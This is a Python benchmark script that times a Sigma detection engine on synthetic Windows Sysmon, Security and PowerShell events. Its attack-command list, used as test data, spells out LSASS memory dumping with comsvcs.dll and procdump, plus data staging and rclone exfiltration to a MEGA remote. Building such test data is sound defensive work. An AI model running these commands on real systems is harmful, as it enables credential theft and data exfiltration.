"""Throughput of the Sigma engine: ``python -m leaktrace.sigma.bench [--events N] [--rules DIR ...]``.

Generates a reproducible mix of Windows endpoint events (Sysmon 1/3/7/10/11/13/22, Security 4624/4688,
PowerShell 4104) with a sprinkling of attack-like command lines, then times ``SigmaEngine.evaluate`` with the
built-in rule set and with any rule folders given. Prints one JSON line per rule set.
"""

from __future__ import annotations

import argparse
import json
import random
import sys
import time
from collections.abc import Sequence
from pathlib import Path
from typing import Any

from leaktrace.sigma.engine import SigmaEngine

SYSMON = "Microsoft-Windows-Sysmon/Operational"
_IMAGES = [
    "C:\\Windows\\System32\\svchost.exe",
    "C:\\Windows\\explorer.exe",
    "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
    "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
    "C:\\Windows\\System32\\cmd.exe",
    "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
    "C:\\Windows\\System32\\conhost.exe",
    "C:\\Windows\\System32\\RuntimeBroker.exe",
]
_BENIGN_CMDS = [
    "svchost.exe -k netsvcs -p -s Schedule",
    "conhost.exe 0xffffffff -ForceV1",
    '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer --lang=ja',
    "cmd.exe /c dir C:\\Users\\taro\\Documents",
    'powershell.exe -NoProfile -Command "Get-ChildItem C:\\share"',
]
_ATTACK_CMDS = [
    "rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Windows\\Temp\\l.dmp full",
    '"C:\\Program Files\\7-Zip\\7z.exe" a -pSecret -mhe=on C:\\Users\\Public\\d.7z C:\\share\\*.docx',
    "whoami /all",
    "systeminfo",
    "rclone.exe copy C:\\share mega:exfil --config C:\\Users\\Public\\r.conf",
    "procdump64.exe -accepteula -ma lsass.exe C:\\Temp\\ls.dmp",
]


def synthetic_events(n: int, seed: int = 7, attack_rate: float = 0.002) -> list[dict[str, Any]]:
    """``n`` flat events, deterministic for a seed."""
    rnd = random.Random(seed)
    out: list[dict[str, Any]] = []
    for i in range(n):
        kind = rnd.random()
        image = rnd.choice(_IMAGES)
        base: dict[str, Any] = {"Computer": f"pc{rnd.randrange(50):02d}", "EventRecordID": i}
        if kind < 0.25:
            attack = rnd.random() < attack_rate * 20
            cmd = rnd.choice(_ATTACK_CMDS) if attack else rnd.choice(_BENIGN_CMDS)
            ev = {
                "Channel": SYSMON,
                "EventID": 1,
                "Image": image,
                "CommandLine": cmd,
                "ParentImage": rnd.choice(_IMAGES),
                "User": "MINISTRY\\taro",
                "IntegrityLevel": "Medium",
                "OriginalFileName": image.rsplit("\\", 1)[-1].upper(),
                "CurrentDirectory": "C:\\Users\\taro\\",
            }
        elif kind < 0.40:
            ev = {
                "Channel": SYSMON,
                "EventID": 10,
                "SourceImage": image,
                "TargetImage": "C:\\Windows\\System32\\lsass.exe"
                if rnd.random() < 0.1
                else rnd.choice(_IMAGES),
                "GrantedAccess": rnd.choice(["0x1000", "0x1410", "0x1fffff"]),
                "CallTrace": "C:\\Windows\\SYSTEM32\\ntdll.dll+9d204",
            }
        elif kind < 0.55:
            ev = {
                "Channel": SYSMON,
                "EventID": 7,
                "Image": image,
                "ImageLoaded": "C:\\Windows\\System32\\kernel32.dll",
                "Signed": "true",
                "Signature": "Microsoft Windows",
            }
        elif kind < 0.70:
            ev = {
                "Channel": SYSMON,
                "EventID": 11,
                "Image": image,
                "TargetFilename": f"C:\\Users\\taro\\AppData\\Local\\Temp\\f{rnd.randrange(10**6)}.tmp",
            }
        elif kind < 0.80:
            ev = {
                "Channel": SYSMON,
                "EventID": 13,
                "Image": image,
                "EventType": "SetValue",
                "TargetObject": "HKU\\S-1-5-21\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\x",
                "Details": "DWORD (0x00000001)",
            }
        elif kind < 0.87:
            ev = {
                "Channel": SYSMON,
                "EventID": 3,
                "Image": image,
                "Initiated": "true",
                "Protocol": "tcp",
                "DestinationIp": f"203.0.113.{rnd.randrange(255)}",
                "DestinationPort": 443,
                "DestinationHostname": rnd.choice(
                    ["www.example.jp", "g.api.mega.co.nz", "update.microsoft.com"]
                ),
            }
        elif kind < 0.92:
            ev = {
                "Channel": SYSMON,
                "EventID": 22,
                "Image": image,
                "QueryName": rnd.choice(["www.example.jp", "api.ipify.org", "ministry.go.jp"]),
            }
        elif kind < 0.97:
            ev = {
                "Channel": "Security",
                "EventID": 4624,
                "LogonType": rnd.choice([2, 3, 10]),
                "TargetUserName": "taro",
                "IpAddress": "10.0.0.5",
            }
        else:
            ev = {
                "Channel": "Microsoft-Windows-PowerShell/Operational",
                "EventID": 4104,
                "ScriptBlockText": "Get-ChildItem C:\\share | Compress-Archive -DestinationPath C:\\t\\a.zip"
                if rnd.random() < 0.05
                else "Get-Date",
            }
        out.append({**base, **ev})
    return out


def measure(engine: SigmaEngine, events: Sequence[dict[str, Any]], label: str) -> dict[str, Any]:
    """Wall and CPU time of one pass; events/s is by CPU time (stable on a shared, loaded machine)."""
    t0, c0 = time.perf_counter(), time.process_time()
    matches = engine.evaluate(events, explain=False)
    dt, dc = time.perf_counter() - t0, time.process_time() - c0
    return {
        "rule_set": label,
        "rules": len(engine.rules),
        "events": len(events),
        "matches": len(matches),
        "wall_s": round(dt, 3),
        "cpu_s": round(dc, 3),
        "events_per_cpu_s": round(len(events) / dc) if dc else None,
    }


def main(argv: Sequence[str] | None = None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0] if __doc__ else None)
    ap.add_argument("--events", type=int, default=50_000)
    ap.add_argument("--seed", type=int, default=7)
    ap.add_argument("--rules", type=Path, nargs="*", default=[], help="extra rule folders, timed separately")
    args = ap.parse_args(argv)
    events = synthetic_events(args.events, args.seed)
    sets: list[tuple[str, SigmaEngine]] = [("builtin", SigmaEngine.builtin())]
    for p in args.rules:
        t0 = time.perf_counter()
        eng = SigmaEngine.from_paths([p])
        print(
            json.dumps(
                {
                    "load": str(p),
                    "rules": len(eng.rules),
                    "unsupported": len(eng.unsupported),
                    "seconds": round(time.perf_counter() - t0, 2),
                }
            )
        )
        sets.append((str(p), eng))
    for label, eng in sets:
        print(json.dumps(measure(eng, events, label)))
    return 0


if __name__ == "__main__":
    sys.exit(main())
